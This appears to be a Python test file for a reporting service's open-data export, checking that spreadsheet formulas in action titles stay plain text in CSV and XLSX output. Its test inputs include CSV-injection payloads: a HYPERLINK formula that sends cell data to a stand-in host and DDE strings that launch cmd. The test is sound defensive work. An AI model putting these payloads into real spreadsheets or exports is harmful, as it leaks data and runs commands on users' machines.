"""A title that a spreadsheet would run stays text in the open data's CSV and XLSX."""

import csv
import io
import zipfile

from openpyxl import load_workbook

from htk_reporting.main import create_service
from htk_testing.reporting_events import action_event, example_plan
from htk_testing.runtime import running

CRAFTED = {
    "e1": '=HYPERLINK("http://evil.example/?"&A1,"Lue")',
    "e2": "+1+cmd|' /C calc'!A0",
    "e3": "-2+3",
    "e4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "e5": "\t=1+1",
    "e6": "\r=1+1",
    "e7": "Kohtaamispaikka - ikäihmiset",
}


async def test_formulas_in_titles_stay_text_in_csv_and_xlsx(service_env: dict[str, str]) -> None:
    service = create_service()
    async with running(service.app()) as client:
        p = service.ctx().state["projection"]
        await p.apply_plan(example_plan())
        for action_id, title in CRAFTED.items():
            await p.apply(
                action_event(
                    "published", action_id, 1, ["1.1.1"], municipalities=["091"], title=title
                )
            )

        response = await client.get("/open-data/actions.csv")
        assert response.status_code == 200, response.text
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        titles = {r["action_id"]: r["title"] for r in rows}
        for action_id, title in CRAFTED.items():
            if action_id == "e7":
                assert titles[action_id] == title, "ordinary text is not touched"
            else:
                assert titles[action_id] == "'" + title, "OWASP: a leading apostrophe"

        response = await client.get("/open-data/actions.xlsx")
        assert response.status_code == 200
        book = load_workbook(io.BytesIO(response.content))
        sheet = book.worksheets[0]
        header = [c.value for c in sheet[1]]
        cells = {
            row[header.index("action_id")].value: row[header.index("title")]
            for row in sheet.iter_rows(min_row=2)
        }
        for action_id, title in CRAFTED.items():
            cell = cells[action_id]
            # XML reads a carriage return back as a line feed; the text is otherwise exact.
            assert cell.value in (title, title.replace("\r", "\n")), action_id
            assert cell.data_type == "s", (action_id, cell.data_type)
        # No formula element anywhere in the workbook's sheets.
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
